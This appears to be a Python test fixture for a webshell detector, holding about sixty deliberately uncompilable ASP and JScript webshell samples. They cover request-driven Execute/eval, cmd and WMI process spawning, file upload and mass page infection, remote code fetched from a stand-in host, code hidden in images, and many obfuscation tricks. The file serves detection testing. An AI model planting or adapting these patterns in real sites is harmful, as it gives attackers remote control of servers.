# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for ASP, one for each mechanism; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r'''
==== control-given-request.asp
<% Dim 1broken
Set m = Server.CreateObject("MSScriptControl.ScriptControl.1")
m.Language = "VBScript"
m.AddObject "q", Request
m.ExecuteStatement "Execute q(""k"")" %>
==== submatch.asp
<% Dim 1broken
Set r = New RegExp
r.Pattern = "k=([^;]+)"
Set found = r.Execute(Request.ServerVariables("HTTP_COOKIE"))
If found.Count > 0 Then Execute found(0).SubMatches(0) %>
==== submatch-each.asp
<% Dim 1broken
Dim rx : Set rx = CreateObject("VBScript.RegExp")
rx.Global = True : rx.Pattern = "\w+=(.*)"
For Each hit In rx.Execute(Request.Form)
  ExecuteGlobal hit.SubMatches(0)
Next %>
==== one-line-functions.asp
<% Dim 1broken
Function A(s) : A = Replace(s, "~", "") : End Function
Sub B(s) : Execute s : End Sub
B A(Request("k")) %>
==== environment.asp
<% Dim 1broken
Set w = CreateObject("WScript.Shell")
Set v = w.Environment("Process")
v("LINE") = Request("k")
w.Run "cmd /c %LINE% > c:\t.txt", 0, True %>
==== exec-method.asp
<% Dim 1broken
Set s = GetObject("winmgmts:\\.\root\cimv2")
Set c = s.Get("Win32_Process")
Set p = c.Methods_("Create").InParameters.SpawnInstance_
p.CommandLine = Request("k")
Set o = s.ExecMethod("Win32_Process", "Create", p) %>
==== registry.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell")
If Request("a") = "w" Then w.RegWrite Request("path"), Request("value"), Request("type")
Response.Write w.RegRead(Request("path")) %>
==== relay-post.asp
<% Dim 1broken
Set x = Server.CreateObject("MSXML2.ServerXMLHTTP.6.0")
x.open "POST", Request.QueryString("to"), False
x.setRequestHeader "Content-Type", Request.ServerVariables("HTTP_CONTENT_TYPE")
x.send Request.BinaryRead(Request.TotalBytes)
Response.BinaryWrite x.responseBody %>
==== picture-code.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
s = f.OpenTextFile(Server.MapPath("logo.jpg")).ReadAll
ExecuteGlobal Mid(s, InStr(s, "REM start")) %>
==== picture-stream.asp
<% Dim 1broken
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 2 : st.Charset = "iso-8859-1" : st.Open
st.LoadFromFile Server.MapPath("/images/banner.gif")
c = st.ReadText
Execute Split(c, "||")(1) %>
==== mass-write.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
For Each x In f.GetFolder(Server.MapPath("/")).Files
  If LCase(Right(x.Name, 4)) = ".asp" Then
    Set t = f.OpenTextFile(x.Path, 8, True)
    t.Write Request.Form("add")
    t.Close
  End If
Next %>
==== js-member-names.asp
<%@ Language="JScript" %><% var 1broken;
var all = this, q = all["Req" + "uest"];
var v = q["Fo" + "rm"]("k") + "";
all["\x65v" + "al"](v); %>
==== js-table.asp
<%@ Language="JScript" %><% var 1broken;
var t = ["For", "m", "ev", "al"];
(function (r) { this[t[2] + t[3]](String(r[t[0] + t[1]]("k"))); })(Request); %>
==== js-replace-function.asp
<%@ Language="JScript" %><% var 1broken;
String(Request("k")).replace(/.*/, function (m) { return m ? eval(m) : ""; }); %>
==== js-map.asp
<script runat="server" language="JScript">
var 1broken;
var acts = { a: function (x) { return new ActiveXObject("WScript.Shell").Exec(x).StdOut.ReadAll(); } };
Response.Write(acts[String(Request("do"))](String(Request("k"))));
</script>
==== js-xhr-eval.asp
<%@ Language="JScript" %><% var 1broken;
var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://code.example/" + "a.js", false); h.send();
eval(h.responseText); %>
==== js-json.asp
<%@ Language="JScript" %><% var 1broken;
var o = eval("(" + Request.Form("json") + ")"); Response.Write(o.name); %>
==== js-with-fso.asp
<%@ Language="JScript" %><% var 1broken;
with (new ActiveXObject("Scripting.FileSystemObject")) { var f = CreateTextFile(Server.MapPath(Request("n")), true); f.Write(Request("b")); f.Close(); } %>
==== js-char-loop.asp
<%@ Language="JScript" %><% var 1broken;
var n = [101, 118, 97, 108], s = "";
for (var i = 0; i < n.length; i++) s += String.fromCharCode(n[i]);
this[s](Request("k") + ""); %>
==== js-unescape-const.asp
<%@ Language="JScript" %><% var 1broken;
eval(unescape("%65%76%61%6c%28%52%65%71%75%65%73%74%28%22%6b%22%29%2b%22%22%29")); %>
==== js-prototype-call.asp
<%@ Language="JScript" %><% var 1broken;
Function.prototype.call.call(eval, null, Request("k") + ""); %>
==== js-reverse-const.asp
<%@ Language="JScript" %><% var 1broken;
var s = ")\"\"+)\"k\"(tseuqeR(lave"; eval(s.split("").reverse().join("")); %>
==== select-case.asp
<% Dim 1broken
Select Case Request("do")
  Case "run": out = Run(Request("c"))
  Case Else: out = ""
End Select
Function Run(c)
  Dim o
  Set o = Server.CreateObject("WScript.Shell")
  Run = o.Exec("%ComSpec% /c " & c).StdOut.ReadAll()
End Function
Response.Write out %>
==== form-collection.asp
<% Dim 1broken
Set a = Request.Form
For i = 1 To a.Count
  If a.Key(i) = "k" Then Execute a.Item(i)
Next %>
==== cookie-sub.asp
<% Dim 1broken : Execute(Request.Cookies("a")("k")) %>
==== all-http.asp
<% Dim 1broken
h = Split(Request.ServerVariables("ALL_RAW"), vbCrLf)
For Each l In h
 If Left(l, 3) = "Z: " Then Eval Mid(l, 4)
Next %>
==== xor-key-loop.asp
<% Dim 1broken
Function X(t, k)
 Dim i, r
 For i = 1 To Len(t)
  r = r & Chr(Asc(Mid(t, i, 1)) Xor Asc(Mid(k, ((i - 1) Mod Len(k)) + 1, 1)))
 Next
 X = r
End Function
Execute X(Request("k"), "abc") %>
==== hex-pairs.asp
<% Dim 1broken
t = Request("k")
For i = 1 To Len(t) Step 2
 c = c & Chr(CLng("&H" & Mid(t, i, 2)))
Next
If c <> "" Then ExecuteGlobal c %>
==== if-else-line.asp
<% Dim 1broken
If Request("k") = "" Then Response.Write "ok" Else Execute Request("k") %>
==== nested-with.asp
<% Dim 1broken
With Server.CreateObject("WScript.Shell")
  With .Exec("cmd /c " & Request("k"))
    Response.Write .StdOut.ReadAll
  End With
End With %>
==== createobject-function.asp
<% Dim 1broken
Function N(s) : Set N = Server.CreateObject(s) : End Function
Response.Write N("WScript.Shell").Exec(Request("k")).StdOut.ReadAll %>
==== fso-with-upload.asp
<% Dim 1broken
Function Bin2Str(b)
 For i = 1 To LenB(b) : Bin2Str = Bin2Str & Chr(AscB(MidB(b, i, 1))) : Next
End Function
raw = Bin2Str(Request.BinaryRead(Request.TotalBytes))
p1 = InStr(raw, "filename=""") + 10
nm = Mid(raw, p1, InStr(p1, raw, """") - p1)
Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath(nm), True)
f.Write Mid(raw, InStr(raw, vbCrLf & vbCrLf) + 4)
f.Close %>
==== up-component.asp
<% Dim 1broken
Set u = Server.CreateObject("Persits.Upload")
u.OverwriteFiles = True
u.Save Request.QueryString("dir") %>
==== sql-recordset.asp
<% Dim 1broken
Set r = Server.CreateObject("ADODB.Recordset")
r.Open Request("sql"), Request("con"), 1, 3
Do Until r.EOF : Response.Write r(0) : r.MoveNext : Loop %>
==== const-layer.asp
<% Dim 1broken
s = "65766"
s = "Exec" & "ute" & Chr(40) & "Req" & "uest" & Chr(40) & Chr(34) & "k" & Chr(34) & Chr(41) & Chr(41)
Execute s %>
==== script-object.asp
<% Dim 1broken
Set s = GetObject("script:http://code.example/a.sct") %>
==== html-application.asp
<% Dim 1broken
Set d = CreateObject("htmlfile")
Set w = d.parentWindow
w.execScript Request("k"), "VBScript" %>
==== array-function.asp
<% Dim 1broken
a = Array(Request("p"), Request("k"))
If a(0) = "x" Then Execute(a(1)) %>
==== global-asa.asa
<script language="vbscript" runat="server">
Sub Session_OnStart
 Dim 1broken
 If Request.QueryString("k") <> "" Then ExecuteGlobal Request.QueryString("k")
End Sub
</script>
==== text-file-run.asp
<% Dim 1broken
Set f = CreateObject("Scripting.FileSystemObject")
If Request("s") <> "" Then
 Set t = f.CreateTextFile(Server.MapPath("a.txt"), True) : t.Write Request("s") : t.Close
End If
Set r = f.OpenTextFile(Server.MapPath("a.txt"), 1)
ExecuteGlobal r.ReadAll %>
==== rename-page.asp
<% Dim 1broken
Set f = CreateObject("Scripting.FileSystemObject")
Set t = f.CreateTextFile(Server.MapPath("b.txt"), True) : t.Write Request("s") : t.Close
f.MoveFile Server.MapPath("b.txt"), Server.MapPath("b.asp") %>
==== xmlhttp-session.asp
<% Dim 1broken
If Session("p") = "" Then
 Set h = CreateObject("WinHttp.WinHttpRequest.5.1") : h.Open "GET", "http://code.example/p", False : h.Send
 Session("p") = h.ResponseText
End If
Execute Session("p") %>
==== dom-decode.asp
<% Dim 1broken
Set n = CreateObject("MSXML2.DOMDocument.3.0").CreateElement("b")
n.DataType = "bin.base64" : n.Text = Request.Form("k")
Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.Write n.NodeTypedValue
st.Position = 0 : st.Type = 2 : st.Charset = "utf-8"
ExecuteGlobal st.ReadText %>
==== capicom.asp
<% Dim 1broken
Set e = CreateObject("CAPICOM.EncryptedData")
e.SetSecret "k" : e.Decrypt Request("k")
Execute e.Content %>
==== aspexec.asp
<% Dim 1broken
Set e = Server.CreateObject("ASPExec.Execute")
e.Application = "cmd.exe"
e.Parameters = "/c " & Request("k")
Response.Write e.ExecuteDosApp %>
==== schedule.asp
<% Dim 1broken
Set s = CreateObject("Schedule.Service") : s.Connect
Set d = s.NewTask(0)
Set a = d.Actions.Create(0)
a.Path = Request("p") : a.Arguments = Request("a")
s.GetFolder("\").RegisterTaskDefinition "t", d, 6, , , 3 %>
==== network-script.asp
<% Dim 1broken
CreateObject("WScript.Network").MapNetworkDrive "Z:", Request("share")
Execute Request("k") %>
==== gif-head.asp
GIF89a<%Dim 1broken%><%eval(request("k"))%>
==== no-close.asp
<%Dim 1broken:execute request("k")
==== block-split.asp
<%Dim 1broken%><%If Request("k")<>"" Then%><%Execute(Request("k"))%><%End If%>
==== comment-noise.asp
<% Dim 1broken 'x
ex = Request _
 ("k") 'noise " ' "
'"
Eval ex : ' done
%>
==== executeglobal-concat.asp
<% Dim 1broken
ExecuteGlobal "Function G(a)" & vbCrLf & Request("k") & vbCrLf & "End Function" %>
==== vb-function-array.asp
<% Dim 1broken
Dim p(3), i
For i = 0 To 3 : p(i) = Request("p" & i) : Next
Execute Join(p, "") %>
==== letter-swap.asp
<% Dim 1broken
Function T(s)
 Dim i, c
 For i = 1 To Len(s)
  c = Mid(s, i, 1)
  If Asc(c) > 96 And Asc(c) < 123 Then c = Chr((Asc(c) - 84) Mod 26 + 97)
  T = T & c
 Next
End Function
Execute T("rknphgr erdhrfg(""x"")") %>
==== property-default.asp
<% Dim 1broken
Class C
 Private v
 Public Default Function D(s) : Execute s : End Function
End Class
Dim o : Set o = New C
o Request("k") %>
==== stop-first.asp
<% Response.End
Dim 1broken
Set s = Server.CreateObject("Shell.Application")
s.ShellExecute "cmd.exe", "/c " & Request("k") %>
==== shell-namespace.asp
<% Dim 1broken
Set s = CreateObject("Shell.Application")
Set i = s.NameSpace(Request("d")).ParseName(Request("f"))
i.InvokeVerb "open" %>
'''
)
